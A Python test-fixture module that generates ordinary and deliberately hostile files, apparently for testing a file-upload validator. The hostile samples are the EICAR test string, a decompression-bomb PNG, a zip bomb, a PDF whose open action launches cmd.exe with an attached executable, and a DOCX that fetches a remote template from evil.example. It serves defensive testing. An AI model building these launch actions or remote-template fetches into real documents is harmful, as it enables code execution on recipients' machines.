"""Files as people send them, and files that somebody made to do harm; all made here."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

# The file of the EICAR institute that every scanner knows, in two halves: none takes this file.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def picture(kind="JPEG", size=(640, 400), **more):
    image = Image.new("RGB", size, (30, 120, 90))
    into = io.BytesIO()
    image.save(into, kind, **more)
    return into.getvalue()


def photo_with_place():
    """A photograph that tells where it was taken, by whom, and lies on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x013B] = "Amal Benali"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (33.0, 34.0, 12.0), "W", (7.0, 35.0, 24.0)
    return picture(exif=exif.tobytes())


def huge_picture():
    """30,000 by 30,000 points that are packed into some bytes."""
    width = height = 30_000

    def chunk(name, data):
        sum_ = zlib.crc32(name + data)
        return struct.pack("!I", len(data)) + name + data + struct.pack("!I", sum_)

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 100_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pdf(*, password="", action=None, attached=False, root=None):
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if action:
        _open_action(writer, action)
    if attached:
        writer.add_attachment("a.exe", b"MZ")
    for name, value in (root or {}).items():
        writer.root_object[NameObject(name)] = value
    if password:
        writer.encrypt(password)
    into = io.BytesIO()
    writer.write(into)
    return into.getvalue()


def _open_action(writer, action):
    made = DictionaryObject()
    made[NameObject("/S")] = NameObject(f"/{action}")
    made[NameObject("/F")] = TextStringObject("cmd.exe")
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(made)  # noqa: SLF001


def archive(members, **options):
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED, **options) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return into.getvalue()


def docx(types=_DOCX, **members):
    named = {
        "[Content_Types].xml": f'<Types><Override ContentType="{types}"/></Types>',
        "word/document.xml": "<document>Amal, menuisière</document>",
        "word/_rels/document.xml.rels": "<Relationships/>",
    }
    return archive(named | {name.replace("__", "/"): value for name, value in members.items()})


def docx_with(name, content=b"x"):
    return docx(**{name.replace("/", "__"): content})


def docx_fetching(kind):
    where = 'TargetMode="External" Target="https://evil.example/t.dotm"'
    rels = f'<Relationships><Relationship Type="http://schemas.example/{kind}" {where}/></Relationships>'
    return docx_with("word/_rels/settings.xml.rels", rels)


def odt(**members):
    named = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "META-INF/manifest.xml": "<manifest/>",
        "content.xml": "<office/>",
    }
    return archive(named | {name.replace("__", "/"): value for name, value in members.items()})


def zip_bomb():
    return docx_with("word/media/a.xml", b"\0" * (90 * 1024 * 1024))


def ogg():
    head = b"OpusHead\x01\x01" + b"\0" * 9
    page = b"OggS\0\x02" + b"\0" * 8 + b"\x01\0\0\0" + b"\0" * 8
    return page + bytes([1, len(head)]) + head


def mp3():
    return b"ID3\x04\0\0\0\0\0\x02\0\0" + b"\xff\xfb\x90\x00" + b"\0" * 400


def m4a(handler=b"soun"):
    ftyp = struct.pack("!I", 16) + b"ftypM4A \0\0\0\0"
    inner = struct.pack("!I", 20) + b"hdlr" + b"\0" * 8 + handler
    return ftyp + struct.pack("!I", 8 + len(inner)) + b"moov" + inner
